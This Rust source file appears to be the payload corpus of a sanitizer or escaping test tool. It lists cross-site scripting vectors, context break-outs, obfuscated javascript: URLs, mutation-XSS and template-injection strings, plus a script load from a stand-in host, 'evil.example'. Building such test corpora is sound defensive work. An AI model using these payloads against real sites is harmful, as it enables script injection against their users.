//! The payloads: every way out of a context with everything that runs behind it, and addresses, encodings and
//! template code besides.

/// Ways out of an attribute, a text, a comment, a script, a style, JSON, Markdown.
const WAYS_OUT: [&str; 15] = [
    "",
    "\">",
    "'>",
    "\" ",
    "' ",
    "` ",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "\\\">",
    "}}",
    "</noscript>",
];

/// What runs.
const VECTORS: [&str; 24] = [
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<a href=javascript:alert(1)>x</a>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=alert(1)>x</b>",
    "onmouseover=alert(1) autofocus onfocus=alert(1) x=",
    "style=animation-name:x onanimationstart=alert(1) x=",
];

/// Addresses, in the forms in which browsers still see a scheme.
const ADDRESSES: [&str; 22] = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\u{1}javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\u{a0}script:alert(1)",
    "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&#58;alert(1)",
    "javascript%3Aalert(1)",
    "javascript://example.org/%0Aalert(1)",
    "vbscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "view-source:javascript:alert(1)",
    "blob:https://example.org/x",
    "//evil.example/x.js",
    "\\\\evil.example\\x",
    "https://example.org/\"onmouseover=\"alert(1)",
    "https://example.org/'><script>alert(1)</script>",
    "https://user:pass@example.org/<img src=x onerror=alert(1)>",
];

/// Forms that change when they are parsed twice, and other odd ones.
const ODD: [&str; 18] = [
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<table><td><script>alert(1)</script></table><caption><img src=x onerror=alert(1)>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<a title=\"a&quot; onmouseover=alert(1) b=&quot;\">x</a>",
    "<img alt=\"`><script>alert(1)</script>\"src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "\u{fe64}script\u{fe65}alert(1)\u{fe64}/script\u{fe65}",
    "\u{ff1c}img src=x onerror=alert(1)\u{ff1e}",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% raw %}<script>alert(1)</script>{% endraw %}",
    "${alert(1)}#{alert(1)}[[constructor.constructor('alert(1)')()]]",
    "[x](javascript:alert(1)) ![x](x\"onerror=\"alert(1)) <javascript:alert(1)>",
];

/// All of them, in one order.
pub(crate) fn payloads() -> Vec<String> {
    let ways = VECTORS.iter().flat_map(|vector| WAYS_OUT.iter().map(move |way| format!("{way}{vector}")));
    ways.chain(ADDRESSES.map(str::to_owned)).chain(ODD.map(str::to_owned)).collect()
}
